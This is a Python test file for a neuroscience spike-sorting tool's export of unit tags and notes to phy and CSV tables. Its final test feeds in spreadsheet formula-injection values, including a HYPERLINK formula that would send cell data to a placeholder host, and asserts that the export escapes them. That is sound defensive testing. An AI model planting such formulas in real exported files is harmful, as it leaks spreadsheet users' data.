"""A person's own labels and notes are in the tables that other tools read, where there are some."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from ncpgui.curation.clustering import Clustering
from ncpgui.curation.commands import Merge, SetWords
from ncpgui.curation.curated_sorting import CuratedSorting
from ncpgui.curation.history import History
from ncpgui.export.csv import export_csv
from ncpgui.export.phy import export_phy
from ncpgui.export.whole_project import export_project
from tests.export.conftest import UNITS, build, csv_rows
from tests.tiny_project import tiny_project

NOTE = 'bursts, "small"; see µ'


def test_they_are_columns_of_phys_tables(tmp_path: Path) -> None:
    bundle = replace(build(), tags={UNITS[1]: "axon"}, notes={UNITS[2]: NOTE})
    folder = export_phy(bundle, tmp_path / "phy")
    assert [row["tag"] for row in csv_rows(folder / "cluster_tag.tsv", "\t")] == ["", "axon", ""]
    assert [row["note"] for row in csv_rows(folder / "cluster_note.tsv", "\t")] == ["", "", NOTE]
    info = csv_rows(folder / "cluster_info.tsv", "\t")
    assert [(row["tag"], row["note"]) for row in info] == [("", ""), ("axon", ""), ("", NOTE)]


def test_a_note_of_more_digits_than_a_number_holds_is_in_a_table_of_its_own_only(tmp_path: Path) -> None:
    """SpikeInterface takes digits in ``cluster_info.tsv`` for numbers, and fails on the whole folder."""
    digits = "1" + 19 * "0"
    folder = export_phy(replace(build(), notes={UNITS[0]: "7", UNITS[1]: digits}), tmp_path / "phy")
    assert [row["note"] for row in csv_rows(folder / "cluster_note.tsv", "\t")] == ["7", digits, ""]
    assert "note" not in csv_rows(folder / "cluster_info.tsv", "\t")[0]
    largest = str(2**63 - 1)
    folder = export_phy(replace(build(), notes={UNITS[1]: largest}), tmp_path / "fits")
    assert [row["note"] for row in csv_rows(folder / "cluster_info.tsv", "\t")] == ["", largest, ""]


def test_phylib_and_spikeinterface_read_them(tmp_path: Path) -> None:
    from phylib.io.model import load_metadata
    from spikeinterface.extractors import read_phy

    bundle = replace(build(), tags={UNITS[1]: "axon"}, notes={UNITS[2]: NOTE})
    folder = export_phy(bundle, tmp_path / "phy")
    assert load_metadata(folder / "cluster_note.tsv")["note"][UNITS[2]] == NOTE
    sorting = read_phy(folder)
    assert sorting.unit_ids.tolist() == list(UNITS)
    assert sorting.get_property("tag").tolist()[1] == "axon"


def test_they_are_the_last_columns_of_the_table_of_units(tmp_path: Path) -> None:
    export_csv(replace(build(), notes={UNITS[0]: NOTE}), tmp_path / "it.csv")
    table = csv_rows(tmp_path / "it_units.csv")
    assert [row["note"] for row in table] == [NOTE, "", ""]
    assert list(table[0])[-1] == "note"


def test_without_any_there_are_no_such_columns(tmp_path: Path) -> None:
    folder = export_phy(build(), tmp_path / "phy")
    assert not list(folder.glob("cluster_tag*")) + list(folder.glob("cluster_note*"))
    export_csv(build(), tmp_path / "it.csv")
    assert not {"tag", "note"} & set(csv_rows(tmp_path / "it_units.csv")[0])


def test_they_come_from_the_history_of_a_project(tmp_path: Path) -> None:
    project = tiny_project({0: [[0, 0, 0, 1, 1, 1, 2, 2]]})
    history = History(Clustering(project.unit_of_spike.copy(), project.probability.copy()))
    history.do(SetWords((0, 1), "tag", "axon"))
    history.do(SetWords((2,), "note", "look again"))
    history.do(Merge((0, 1)))
    decisions = CuratedSorting.of(history, project.unit_of_spike)
    export_project(project, decisions, "csv", tmp_path / "it.csv")
    table = csv_rows(tmp_path / "it_units.csv")
    assert [(row["unit"], row["tag"], row["note"]) for row in table] == [
        ("2", "", "look again"),
        ("3", "axon", ""),
    ]


def test_no_text_in_the_tables_of_csv_is_a_formula(tmp_path: Path) -> None:
    bundle = build()
    labels = {UNITS[0]: "=1+1", UNITS[1]: "good", UNITS[2]: "mua"}
    bundle = replace(
        bundle,
        sorting=replace(bundle.sorting, labels=labels),
        tags={UNITS[0]: "@SUM(A1)"},
        notes={UNITS[1]: '=HYPERLINK("http://x/?"&A1)', UNITS[2]: "- drifts"},
    )
    export_csv(bundle, tmp_path / "it.csv")
    table = csv_rows(tmp_path / "it_units.csv")
    assert [row["label"] for row in table] == ["'=1+1", "good", "mua"]
    assert [row["tag"] for row in table] == ["'@SUM(A1)", "", ""]
    assert [row["note"] for row in table] == ["", '\'=HYPERLINK("http://x/?"&A1)', "'- drifts"]
    assert all(float(row["x_um"]) < 0 for row in table if row["x_um"].startswith("-")), "numbers stay"
